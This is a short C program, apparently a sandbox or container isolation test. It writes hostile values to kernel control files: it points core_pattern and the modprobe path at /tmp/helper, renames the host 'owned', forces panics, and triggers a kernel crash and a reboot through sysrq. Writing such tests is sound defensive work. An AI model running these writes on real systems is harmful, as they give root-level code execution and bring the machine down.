#include "hostile.h"

int main(int argc, char **argv)
{
	put("/proc/sys/kernel/core_pattern", "|/tmp/helper");
	put("/proc/sys/kernel/modprobe", "/tmp/helper");
	put("/proc/sys/kernel/hostname", "owned");
	put("/proc/sys/vm/panic_on_oom", "2");
	put("/proc/sys/kernel/panic", "1");
	put("/proc/sysrq-trigger", "c");
	put("/proc/sysrq-trigger", "b");
	put("/dev/kmsg", "hello");
	return become_command(argc, argv);
}
